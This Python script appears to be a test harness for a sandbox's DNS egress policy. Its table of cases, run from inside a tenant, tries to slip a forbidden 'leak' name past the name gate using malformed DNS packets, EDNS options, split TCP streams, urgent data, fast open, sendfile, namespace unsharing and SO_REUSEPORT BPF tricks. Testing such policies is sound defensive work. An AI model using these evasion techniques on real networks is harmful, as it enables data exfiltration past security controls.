# SPDX-License-Identifier: GPL-2.0-only
"""attack.py CASE SERVER NAME: one way round the rules about names, from inside a tenant. What it prints is in the table of `attacks`.

Cases that wait print `ready`, and go on when a line comes in. At its end each has heard the answer to a question of another
socket, asked behind all others: what had to come has come.
"""
import ctypes
import os
import socket
import struct
import sys

CONTROL = "smtp.gmail.com"
PATIENCE = 10  # seconds
CLONE_NEWUSER, CLONE_NEWNET = 0x10000000, 0x40000000
UDP_SEGMENT, MSG_FASTOPEN, SO_ATTACH_REUSEPORT_CBPF = 103, 0x20000000, 51
A, TXT, OPT = 1, 16, 41


def wire(name):
    return b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"


def question(name, ident=0x1111, flags=0x0100, counts=(1, 0, 0, 0), behind=b""):
    return struct.pack(">6H", ident, flags, *counts) + wire(name) + struct.pack(">2H", A, 1) + behind


def record(data, kind=TXT):
    return b"\xc0\x0c" + struct.pack(">2HIH", kind, 1, 60, len(data)) + data


def option(text):
    """EDNS, with an option that nobody knows."""
    return b"\0" + struct.pack(">2HIH", OPT, 1232, 0, len(text) + 4) + struct.pack(">2H", 65001, len(text)) + text.encode()


def sized(message):
    return struct.pack(">H", len(message)) + message


def datagrams():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(PATIENCE)
    return sock


def connection():
    """What it has not sent goes with it, and is not sent when the policy is gone."""
    sock = socket.socket()
    sock.settimeout(PATIENCE)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("2i", 1, 0))
    return sock


def stream(server, sock=None):
    sock = sock or connection()
    sock.connect((server, 53))
    return sock


def disconnect(sock):
    """connect() with AF_UNSPEC."""
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.connect(sock.fileno(), ctypes.create_string_buffer(16), 16):
        raise OSError(ctypes.get_errno(), "connect")


def unshare(flags):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(flags):
        raise OSError(ctypes.get_errno(), "unshare")


def tell(what):
    print(what, flush=True)


def wait():
    tell("ready")
    sys.stdin.readline()


def control(server):
    """Before anything is tried: a process that has unshared cannot ask any more."""
    sock = datagrams()
    sock.connect((server, 53))
    return sock


def settle(sock):
    sock.send(question(CONTROL, 0x2222))
    while sock.recv(4096)[:2] != b"\x22\x22":
        pass


# ---- questions under the gate -----------------------------------------------------------------------------------


def datagram_cases(name):
    """What is sent as one datagram."""
    return {
        "plain": question(name),
        "answer": question(name, flags=0x8100),
        "update": question(name, flags=0x2800),
        "notify": question(name, flags=0x2000),
        "two": question("smtp.gmail.com", counts=(2, 0, 0, 0), behind=wire(name) + struct.pack(">2H", A, 1)),
        "record": question("smtp.gmail.com", counts=(1, 1, 0, 0), behind=record(name.encode())),
        "authority": question("smtp.gmail.com", counts=(1, 0, 1, 0), behind=record(name.encode())),
        "noise": name.encode() * 3,
        "short": name.encode()[:11],
        "option": question("smtp.gmail.com", counts=(1, 0, 0, 1), behind=option(name)),
        "upper": question(name.upper().replace("LEAK", "leak")),
        "pointer": struct.pack(">6H", 1, 0x100, 1, 0, 0, 0) + wire(name)[:-1] + b"\xc0\x04" + struct.pack(">2H", A, 1),
    }


def send(sock, data, flags=0):
    try:
        sock.send(data, flags)
    except OSError:
        pass  # what is found out is whether it was on the wire


def gate_udp(server, name, case):
    sock, end = datagrams(), control(server)
    sock.connect((server, 53))
    send(sock, datagram_cases(name)[case])
    settle(end)


def gate_segments(server, name):
    sock, end = datagrams(), control(server)
    good, bad = question("smtp.gmail.com"), question(name)
    size = max(len(good), len(bad))
    sock.setsockopt(socket.SOL_UDP, UDP_SEGMENT, size)
    sock.connect((server, 53))
    send(sock, good.ljust(size, b"\0") + bad)
    settle(end)


def gate_corked(server, name):
    sock, end = datagrams(), control(server)
    sock.connect((server, 53))
    data = question(name)
    send(sock, data[:14], socket.MSG_MORE)
    send(sock, data[14:])
    settle(end)


def gate_stream(server, name, pieces):
    end = control(server)
    sock = stream(server)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for piece in pieces:
        send(sock, piece)
    settle(end)


def gate_urgent(server, name):
    """The server's kernel takes an urgent byte out of the stream: from there it reads other messages than the gate."""
    end = control(server)
    sock = stream(server)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    try:
        sock.send(sized(question(CONTROL)), socket.MSG_OOB)
    except OSError:
        pass
    send(sock, sized(question(CONTROL, counts=(1, 0, 0, 1), behind=option(name))))
    settle(end)


def gate_crowded(server, name):
    """A control message takes the room in which it would be kept that this peer is a name server."""
    end = control(server)
    sock = datagrams()
    sock.sendto(question(CONTROL), ("93.184.216.34", 53))
    try:
        sock.sendmsg([question(name)], [(12345, 1, bytes(130608))], 0, (server, 53))
    except OSError:
        pass
    settle(end)


def gate_again(server, name):
    """The socket had a connection to it before."""
    end = control(server)
    sock = stream(server)
    disconnect(sock)
    stream(server, sock)
    send(sock, sized(question(name)))
    settle(end)


def gate_detour(server, name):
    """And one to somebody else between."""
    end = control(server)
    sock = stream(server)
    disconnect(sock)
    sock.connect(("93.184.216.34", 53))
    disconnect(sock)
    stream(server, sock)
    send(sock, sized(question(name)))
    settle(end)


def gate_open_fast(server, name):
    sock, end = connection(), control(server)
    try:
        sock.sendto(sized(question(name)), MSG_FASTOPEN, (server, 53))
    except OSError:
        pass
    settle(end)


def gate_file(server, name, kind):
    """A file's page, which can be changed after it was looked at. The question itself may be asked."""
    sock, end = datagrams() if kind == socket.SOCK_DGRAM else connection(), control(server)
    sock.connect((server, 53))
    data = question("smtp.gmail.com", counts=(1, 0, 0, 1), behind=option(name))
    with open(os.memfd_create("question"), "wb+") as file:
        file.write(sized(data) if kind == socket.SOCK_STREAM else data)
        file.flush()
        try:
            os.sendfile(sock.fileno(), file.fileno(), 0, 4096)
        except OSError:
            pass
    settle(end)


def gate_moved(server, name, kind):
    """The socket is in the host's namespace, who connects it is in one of its own."""
    end = control(server)
    sock = datagrams() if kind == socket.SOCK_DGRAM else connection()
    unshare(CLONE_NEWUSER | CLONE_NEWNET)
    sock.connect((server, 53))
    send(sock, sized(question(name)) if kind == socket.SOCK_STREAM else question(name))
    settle(end)


def gate_older(server, name, kind):
    """The socket was connected under another policy."""
    sock = datagrams() if kind == socket.SOCK_DGRAM else connection()
    sock.connect((server, 53))
    wait()
    end = control(server)
    send(sock, sized(question(name)) if kind == socket.SOCK_STREAM else question(name))
    settle(end)


def gate_other(server, name):
    """Another name server that is allowed, and not believed."""
    sock, end = datagrams(), control(server)
    sock.sendto(question("smtp.gmail.com"), (server, 53))
    try:
        sock.sendto(question(name), ("93.184.216.34", 53))
    except OSError:
        pass
    other = datagrams()
    other.connect(("93.184.216.34", 53))
    send(other, question(name))
    settle(end)


# ---- what is learned ----------------------------------------------------------------------------------------------


def learn_udp(server, name):
    sock, end = datagrams(), control(server)
    sock.connect((server, 53))
    sock.send(question(name))
    settle(end)


def ask_stream(sock, name):
    sock.sendall(sized(question(name)))
    size = struct.unpack(">H", sock.recv(2, socket.MSG_WAITALL))[0]
    sock.recv(size, socket.MSG_WAITALL)


def learn_again(server, name):
    """Over the second connection of a socket."""
    sock = stream(server)
    ask_stream(sock, CONTROL)
    disconnect(sock)
    stream(server, sock)
    ask_stream(sock, name)


def learn_pipelined(server, name):
    """More questions at once than are read in a segment."""
    sock = stream(server)
    sock.sendall(b"".join(sized(question(CONTROL, i)) for i in range(40)))
    for _ in range(40):
        size = struct.unpack(">H", sock.recv(2, socket.MSG_WAITALL))[0]
        sock.recv(size, socket.MSG_WAITALL)
    ask_stream(sock, name)


def learn_other(server, name):
    """The socket has a second peer, which is allowed and not believed."""
    sock, end = datagrams(), control(server)
    sock.sendto(question(CONTROL, 0x3333), (server, 53))
    sock.sendto(question(name), ("93.184.216.34", 53))
    for _ in range(2):
        sock.recv(4096)
    settle(end)


def learn_moved(server, name):
    """The socket is in a namespace of the tenant's own, where another process answers as the name server."""
    end = control(server)
    unshare(CLONE_NEWUSER | CLONE_NEWNET)
    tell(os.getpid())
    wait()
    sock = control(server)
    sock.send(question(name))
    tell("answered" if len(sock.recv(4096)) > 12 else "nothing")
    settle(end)


def learn_unopened(server, name):
    """Over a connection that is not there yet: whoever can send in the server's name does not know its numbers."""
    sock = socket.socket()
    sock.setblocking(False)
    sock.connect_ex((server, 53))
    tell(sock.getsockname()[1])
    wait()


def learn_older(server, name):
    sock = datagrams()
    sock.connect((server, 53))
    wait()
    end = control(server)
    sock.send(question(name))
    sock.recv(4096)
    settle(end)


def own_answer(name):
    """With the address that the name says."""
    address = socket.inet_aton(name.split(".")[1].replace("-", "."))
    return question(name, 0x1111, 0x8180, (1, 1, 0, 0), record(address, A))


def learn_oneself(server, name):
    """Connected to oneself, where ports are chosen from 53 on."""
    sock = stream(server)
    if sock.getsockname() != sock.getpeername():
        tell("the other end is another")
    for message in question(name), own_answer(name):
        sock.sendall(sized(message))
        sock.recv(2 + len(message), socket.MSG_WAITALL)


def answers_to_first():
    """For a group of two: what has the first bit of the third byte goes to the first."""
    steps = ((0x30, 0, 0, 2), (0x45, 0, 1, 0x80), (0x06, 0, 0, 0), (0x06, 0, 0, 1))
    code = ctypes.create_string_buffer(b"".join(struct.pack("=HBBI", *step) for step in steps))
    return code, struct.pack("HxxxxxxP", len(steps), ctypes.addressof(code))


def learn_twin(server, name):
    """One of two sockets at one port, where ports are chosen from 53 on, is asked by the other."""
    asks, tells = datagrams(), datagrams()
    code, group = answers_to_first()
    for sock in asks, tells:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    asks.setsockopt(socket.SOL_SOCKET, SO_ATTACH_REUSEPORT_CBPF, group)
    asks.sendto(b"first", (server, 53))
    tells.sendto(b"second", (server, 53))
    if asks.getsockname()[1] != 53 or tells.getsockname()[1] != 53:
        tell("they are not at its port")
    asks.sendto(question(name), (server, 53))
    while tells.recv(4096) != question(name):
        pass
    tells.sendto(own_answer(name), (server, 53))
    while asks.recv(4096) != own_answer(name):
        pass


def bind_53(server, name):
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        for address in ("127.0.0.53", "0.0.0.0"):
            try:
                socket.socket(socket.AF_INET, kind).bind((address, 53))
                tell(f"bound {address}")
            except PermissionError:
                pass


def cases(server, name):
    message = question(name)
    good = question("smtp.gmail.com")
    whole = sized(message)
    table = {f"gate-{case}": (gate_udp, case) for case in datagram_cases(name)}
    table |= {
        "gate-segments": (gate_segments,),
        "gate-corked": (gate_corked,),
        "gate-file-udp": (gate_file, socket.SOCK_DGRAM),
        "gate-file-tcp": (gate_file, socket.SOCK_STREAM),
        "gate-stream": (gate_stream, [whole]),
        "gate-stream-size": (gate_stream, [whole[:1], whole[1:]]),
        "gate-stream-pieces": (gate_stream, [whole[:20], whole[20:]]),
        "gate-stream-behind": (gate_stream, [sized(good) + whole]),
        "gate-stream-inside": (gate_stream, [struct.pack(">H", len(good) + len(message)) + good + message]),
        "gate-stream-noise": (gate_stream, [sized(good) + name.encode()]),
        "gate-urgent": (gate_urgent,),
        "gate-crowded": (gate_crowded,),
        "gate-again": (gate_again,),
        "gate-detour": (gate_detour,),
        "gate-open-fast": (gate_open_fast,),
        "gate-moved-udp": (gate_moved, socket.SOCK_DGRAM),
        "gate-moved-tcp": (gate_moved, socket.SOCK_STREAM),
        "gate-older-udp": (gate_older, socket.SOCK_DGRAM),
        "gate-older-tcp": (gate_older, socket.SOCK_STREAM),
        "gate-other": (gate_other,),
        "learn-udp": (learn_udp,),
        "learn-again": (learn_again,),
        "learn-pipelined": (learn_pipelined,),
        "learn-other": (learn_other,),
        "learn-moved": (learn_moved,),
        "learn-unopened": (learn_unopened,),
        "learn-older": (learn_older,),
        "learn-oneself": (learn_oneself,),
        "learn-twin": (learn_twin,),
        "bind-53": (bind_53,),
    }
    return table


def main():
    case, server, name = sys.argv[1:4]
    function, *more = cases(server, name)[case]
    function(server, name, *more)
    tell("done")


main()
